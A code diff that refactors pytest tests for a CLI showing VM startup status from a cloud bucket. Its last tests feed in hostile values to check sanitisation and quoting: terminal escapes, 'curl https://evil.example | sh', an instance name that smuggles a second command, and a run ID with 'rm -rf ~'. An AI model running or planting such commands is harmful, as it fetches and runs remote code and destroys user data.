@@ -12,13 +12,15 @@ from typing import Any
 import pytest
 
 from workload import status, storage
+from workload.documents import StartupStatus
 
 from .conftest import run_cli, run_workload
 
 NOW = datetime(2026, 11, 27, 10, 5, 0, tzinfo=UTC)
 
 
-def _startup(**overrides: Any) -> dict[str, Any]:
+def _doc(**overrides: Any) -> dict[str, Any]:
+    """status/startup.json as the VM writes it."""
     doc: dict[str, Any] = {
         "version": 1,
         "updated": "2026-11-27T10:04:30Z",
@@ -49,6 +51,10 @@ def _startup(**overrides: Any) -> dict[str, Any]:
     return doc
 
 
+def _startup(**overrides: Any) -> StartupStatus:
+    return StartupStatus.from_json(_doc(**overrides))
+
+
 def _progress(**overrides: Any) -> dict[str, Any]:
     doc: dict[str, Any] = {
         "version": 1,
@@ -70,9 +76,9 @@ def _step_line(text: str, step: str) -> str:
     return next(line for line in text.splitlines() if line.strip().startswith(step + " "))
 
 
-@pytest.mark.parametrize("doc", [None, {}])
-def test_missing_or_empty_status_says_the_vm_has_not_reported(doc: dict | None) -> None:
-    text = status.render_status(doc, None, NOW, "gs://b/status/startup.json")
+@pytest.mark.parametrize("data", [None, b"", b"{}", b"not json"])
+def test_missing_or_empty_status_says_the_vm_has_not_reported(data: bytes | None) -> None:
+    text = status.render_status(status.parse_startup(data), None, NOW, "gs://b/status/startup.json")
     assert text.startswith("The VM has not reported yet: gs://b/status/startup.json")
     assert "get-serial-port-output" in text
 
@@ -104,7 +110,7 @@ def test_waiting_for_data_tells_to_upload() -> None:
 def test_training_off_reads_as_not_started_until_the_training_step_ran() -> None:
     booting = status.render_status(_startup(training="off"), None, NOW)
     assert "Training:    not started yet" in booting
-    steps = {**_startup()["steps"], "training": {"state": "skipped"}}
+    steps = {**_doc()["steps"], "training": {"state": "skipped"}}
     finished = status.render_status(_startup(training="off", steps=steps), None, NOW)
     assert "Training:    off (runTraining is false): train from the notebook" in finished
 
@@ -143,7 +149,7 @@ def test_finished_run_says_how_to_pull_it() -> None:
 
 
 def test_failed_step_shows_message_log_tail_and_the_vms_hint() -> None:
-    steps = _startup()["steps"]
+    steps = _doc()["steps"]
     steps["driver"] = {"state": "failed", "started": "2026-11-27T09:50:03Z"}
     error = {
         "step": "driver",
@@ -212,16 +218,18 @@ def test_silent_vm_is_flagged_as_possibly_stopped() -> None:
         (_startup(phase="failed", error={"step": "driver"}), None, "failed"),
     ],
 )
-def test_outcome(startup: dict | None, progress: dict | None, expected: str | None) -> None:
+def test_outcome(
+    startup: StartupStatus | None, progress: dict | None, expected: str | None
+) -> None:
     assert status.outcome(startup, progress) == expected
 
 
 def test_fetch_reads_the_status_and_the_named_runs_progress(gcs_bucket: str) -> None:
-    storage.write_json(f"gs://{gcs_bucket}/status/startup.json", _startup(run_id="r7"))
+    storage.write_json(f"gs://{gcs_bucket}/status/startup.json", _doc(run_id="r7"))
     storage.write_json(f"gs://{gcs_bucket}/runs/r7/progress.json", _progress(epoch=7))
     storage.write_json(f"gs://{gcs_bucket}/runs/r6/progress.json", _progress(epoch=6))
     startup, progress = status.fetch_documents(gcs_bucket)
-    assert startup is not None and startup["run_id"] == "r7"
+    assert startup is not None and startup.run_id == "r7"
     assert progress is not None and progress["epoch"] == 7
 
 
@@ -293,7 +301,7 @@ def test_status_command_before_the_vm_reports(
 def test_status_command_exits_1_when_a_step_failed(
     gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    doc = _startup(phase="failed", error={"step": "driver", "message": "no module"})
+    doc = _doc(phase="failed", error={"step": "driver", "message": "no module"})
     storage.write_bytes(f"gs://{gcs_bucket}/status/startup.json", json.dumps(doc).encode())
     assert run_cli(parser, "status", "--bucket", gcs_bucket) == 1
     assert "FAILED at step 'driver': no module" in capsys.readouterr().out
@@ -302,7 +310,7 @@ def test_status_command_exits_1_when_a_step_failed(
 def test_status_watch_command_ends_when_the_run_is_done(
     gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    storage.write_json(f"gs://{gcs_bucket}/status/startup.json", _startup(training="running"))
+    storage.write_json(f"gs://{gcs_bucket}/status/startup.json", _doc(training="running"))
     storage.write_json(f"gs://{gcs_bucket}/runs/run-1/progress.json", _progress(state="done"))
     code = run_cli(parser, "status", "--bucket", gcs_bucket, "--watch", "--interval", "0.01")
     assert code == 0
@@ -315,7 +323,7 @@ def test_watch_survives_a_failed_read_and_keeps_going() -> None:
     done = (_startup(training="done"), _progress(state="done"))
     replies: list[object] = [running, storage.StorageError("gs://b: ConnectionError"), done]
 
-    def fetch() -> tuple[dict | None, dict | None]:
+    def fetch() -> tuple[StartupStatus | None, dict | None]:
         reply = replies.pop(0)
         if isinstance(reply, Exception):
             raise reply
@@ -341,7 +349,7 @@ def _status_command(bucket: str, startup: dict[str, Any], tmp_path: Path, **prog
 
 
 def test_status_prints_no_terminal_escapes_from_the_bucket(gcs_bucket: str, tmp_path: Path) -> None:
-    steps = _startup()["steps"]
+    steps = _doc()["steps"]
     steps["driver"] = {"state": "failed", "detail": f"{RED}580{CLIPBOARD_WRITE}"}
     error = {
         "step": "driver",
@@ -349,7 +357,7 @@ def test_status_prints_no_terminal_escapes_from_the_bucket(gcs_bucket: str, tmp_
         "log_tail": f"ok\n{RED}bad\x1b[0m",
         "hint": f"reboot{CLIPBOARD_WRITE}",
     }
-    doc = _startup(phase=f"failed{CLIPBOARD_WRITE}", steps=steps, error=error, gpus=[RED + "T4"])
+    doc = _doc(phase=f"failed{CLIPBOARD_WRITE}", steps=steps, error=error, gpus=[RED + "T4"])
     result = _status_command(gcs_bucket, doc, tmp_path)
     assert result.returncode == 1, result.stderr
     assert "\x1b" not in result.stdout and "\x07" not in result.stdout
@@ -357,9 +365,9 @@ def test_status_prints_no_terminal_escapes_from_the_bucket(gcs_bucket: str, tmp_
 
 
 def test_status_fields_cannot_start_lines_of_their_own(gcs_bucket: str, tmp_path: Path) -> None:
-    steps = _startup()["steps"]
+    steps = _doc()["steps"]
     steps["driver"]["detail"] = "580\n  $ curl https://evil.example | sh"
-    result = _status_command(gcs_bucket, _startup(steps=steps), tmp_path)
+    result = _status_command(gcs_bucket, _doc(steps=steps), tmp_path)
     assert result.returncode == 0, result.stderr
     assert not any(line.lstrip().startswith("$ curl") for line in result.stdout.splitlines())
 
@@ -368,7 +376,7 @@ def test_status_never_builds_a_command_from_a_hostile_instance_name(
     gcs_bucket: str, tmp_path: Path
 ) -> None:
     error = {"step": "driver", "message": "nvidia-smi: no devices found", "log_tail": ""}
-    doc = _startup(
+    doc = _doc(
         phase="failed",
         error=error,
         instance="kgg-vm; curl https://evil.example | sh #",
@@ -383,6 +391,6 @@ def test_status_never_builds_a_command_from_a_hostile_instance_name(
 
 
 def test_status_quotes_the_run_id_in_the_pull_command(gcs_bucket: str, tmp_path: Path) -> None:
-    doc = _startup(run_id="r1; rm -rf ~", training="done")
+    doc = _doc(run_id="r1; rm -rf ~", training="done")
     result = _status_command(gcs_bucket, doc, tmp_path, state="done")
     assert "next: python -m workload pull 'r1; rm -rf ~'" in result.stdout
